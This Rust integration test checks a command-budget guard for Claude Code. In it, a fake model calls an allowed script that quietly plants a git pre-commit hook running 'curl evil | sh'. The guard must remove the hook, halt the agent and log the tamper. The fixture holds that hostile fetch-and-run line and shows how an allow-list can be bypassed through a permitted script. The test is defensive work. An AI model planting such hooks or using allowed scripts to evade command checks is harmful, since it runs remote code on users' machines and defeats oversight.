//! The tripwire under the real Claude Code (SPEC §3): a command the budget allows runs a
//! project script whose effect the shell analysis cannot see (it plants a git hook). After
//! the call the hook is gone again, Claude Code halts, and the model is not asked to go on.

use super::harness::{claude_or_skip, install_our_hooks, run_claude};
use budget_tests::TempProject;
use budget_tests::fake_api::{FakeApi, Script, ToolCall};

#[test]
fn a_git_hook_planted_by_an_allowed_script_is_removed_and_claude_code_halts() {
    let Some(claude) =
        claude_or_skip("a_git_hook_planted_by_an_allowed_script_is_removed_and_claude_code_halts")
    else {
        return;
    };
    let project = TempProject::new().budget(
        "version = 1\nextends = [\"destructive\", \"secrets\"]\n[run]\nallow = [\"./tools/gen\", \"ls\"]\n",
    );
    install_our_hooks(&project);
    project.write(".git/config", "[core]\n\tbare = false\n");
    // What the analysis cannot know: the script's body.
    project.write(
        "tools/gen",
        "#!/bin/sh\nmkdir -p .git/hooks\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\necho generated\n",
    );
    make_executable(&project.root.join("tools/gen"));
    let planted = project.root.join(".git/hooks/pre-commit");
    let api = FakeApi::start(Script::new(vec![
        vec![ToolCall::bash("./tools/gen")],
        vec![ToolCall::bash("ls")],
    ]));

    let run = run_claude(
        &claude,
        &project,
        &api,
        "generate the code",
        &["--permission-mode", "bypassPermissions"],
    );

    assert!(
        !planted.exists(),
        "the planted git hook is still there\n{}",
        run.describe()
    );
    let turns = api.message_requests().len();
    assert_eq!(
        turns,
        1,
        "Claude Code went on after the tamper ({turns} model requests)\n{}",
        run.describe()
    );
    assert_eq!(
        run.result["terminal_reason"],
        "hook_stopped",
        "Claude Code did not stop on the hook\n{}",
        run.describe()
    );
    let recorded: Vec<String> = super::harness::files_under(&project.data)
        .into_iter()
        .filter(|p| p.ends_with("events.jsonl"))
        .filter_map(|p| std::fs::read_to_string(p).ok())
        .collect();
    assert!(
        recorded
            .iter()
            .any(|r| r.contains("\"code\":\"tamper-detected\"") && r.contains("pre-commit")),
        "the record does not show the tamper: {recorded:?}"
    );
}

fn make_executable(path: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt;
    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
}
